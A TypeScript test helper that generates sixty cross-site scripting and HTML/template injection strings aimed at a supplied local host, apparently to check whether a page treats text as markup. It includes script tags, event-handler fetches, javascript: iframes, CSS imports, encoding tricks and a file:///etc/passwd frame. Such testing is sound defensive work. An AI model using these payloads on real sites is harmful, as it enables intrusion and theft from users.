/**
 * Sixty texts that would load, run, or open something if a page treated them as markup (quality 14). Each contains
 * `host`, such as 127.0.0.1:4321, with its own path (/h01 …). None is longer than a name may be, and none contains an
 * emoji.
 */
export function hostileTexts(host: string): string[] {
  const at = `http://${host}`
  const ran = "document.write('scr'+'ipt ran')"
  const made: ((path: string) => string)[] = [
    // scripts
    (p) => `<script src=${at}/${p}></script>`,
    (p) => `<script>fetch('${at}/${p}');${ran}</script>`,
    (p) => `</title><script>new Image().src='${at}/${p}'</script>`,
    (p) => `</style><script>new WebSocket('ws://${host}/${p}')</script>`,
    (p) => `<script type=module>import '${at}/${p}'</script>`,
    (p) => `<scr<script>ipt src=${at}/${p}></scr</script>ipt>`,
    (p) => `<ScRiPt/x src=//${host}/${p}></ScRiPt>`,
    (p) => `--><!-- --><script src="${at}/${p}"></script>`,
    (p) => `]]><script src='${at}/${p}'></script>`,
    (p) => `<script type=speculationrules>{"prefetch":[{"urls":["${at}/${p}"]}]}</script>`,
    // handlers
    (p) => `<img src=x onerror="fetch('${at}/${p}')">`,
    (p) => `"><img src=${at}/${p} onload=alert(1)>`,
    (p) => `'><svg onload=fetch('${at}/${p}')>`,
    (p) => `<body onload="location='${at}/${p}'">`,
    (p) => `<details open ontoggle=fetch('${at}/${p}')>x`,
    (p) => `<input autofocus onfocus=fetch('${at}/${p}')>`,
    (p) => `" style="background:url(${at}/${p})" x="`,
    (p) => `<div style=animation-name:x onanimationstart=fetch('${at}/${p}')>`,
    // things that a page loads
    (p) => `<img src="${at}/${p}">`,
    (p) => `<img srcset="//${host}/${p} 2x">`,
    (p) => `<picture><source srcset=${at}/${p}><img></picture>`,
    (p) => `<video src=${at}/${p} poster=${at}/${p}p autoplay>`,
    (p) => `<audio autoplay src=${at}/${p}></audio>`,
    (p) => `<object data=${at}/${p}></object>`,
    (p) => `<embed src=${at}/${p}>`,
    (p) => `<input type=image src=${at}/${p}>`,
    (p) => `<table background=${at}/${p}><td background=${at}/${p}>x`,
    (p) => `<track src=${at}/${p}><applet archive=${at}/${p}>`,
    (p) => `<svg><image href=${at}/${p} /></svg>`,
    (p) => `<svg><use href=${at}/${p}#x /></svg>`,
    (p) => `<svg><filter id=f><feImage href=${at}/${p} /></filter></svg>`,
    (p) => `<svg><script href=${at}/${p} /></svg>`,
    (p) => `<math><annotation-xml encoding=text/html><img src=${at}/${p}>`,
    // frames and redirects
    (p) => `<iframe src=${at}/${p}></iframe>`,
    (p) => `<iframe srcdoc="<img src=${at}/${p}>"></iframe>`,
    (p) => `<iframe src="javascript:fetch('${at}/${p}')"></iframe>`,
    (p) => `<iframe src="data:text/html,<img src=${at}/${p}>"></iframe>`,
    (p) => `<frameset><frame src=${at}/${p}></frameset>`,
    (p) => `<meta http-equiv=refresh content="0;url=${at}/${p}">`,
    (p) => `<base href=${at}/${p}/><img src=x>`,
    (p) => `<form action=${at}/${p}><input autofocus></form>`,
    (p) => `<a href=${at}/${p} ping=${at}/${p}p>x</a>`,
    (p) => `<a href="javascript:fetch('${at}/${p}')">x</a>`,
    (p) => `<iframe src=file:///etc/passwd></iframe><img src=${at}/${p}>`,
    // links
    (p) => `<link rel=stylesheet href=${at}/${p}>`,
    (p) => `<link rel=preload as=image href=${at}/${p}>`,
    (p) => `<link rel=prefetch href=${at}/${p}>`,
    (p) => `<link rel=preconnect href=${at}/${p}>`,
    (p) => `<link rel=modulepreload href=${at}/${p}>`,
    (p) => `<link rel=icon href=${at}/${p}><link rel=manifest href=${at}/${p}>`,
    // style sheets
    (p) => `<style>@import "${at}/${p}";</style>`,
    (p) => `<style>*{background:url(${at}/${p})}</style>`,
    (p) => `<style>@font-face{font-family:q;src:url(${at}/${p})}*{font-family:q}</style>`,
    (p) => `}body{background:image-set(url(${at}/${p}) 1x)}`,
    (p) => `<p style="list-style:url(${at}/${p});cursor:url(${at}/${p}),auto">x`,
    // other spellings
    (p) => `&lt;img src=${at}/${p}&gt;&#60;img src=${at}/${p}&#62;`,
    (p) => `\u003cimg src=${at}/${p}\u003e {{constructor.constructor('fetch(1)')()}}`,
    (p) => `＜img src=${at}/${p}＞ ${'${'}7*7} <%= 7*7 %> #{7*7}`,
    (p) => `<scr\u200bipt src=${at}/${p}></scr\u200bipt><i\u00admg src=${at}/${p}>`,
    (p) => `\u202e>gmi<\u202c<img\u3000src=${at}/${p}>%3Cimg src=${at}/${p}%3E`,
  ]
  return made.map((text, index) => text(`h${String(index + 1).padStart(2, '0')}`))
}
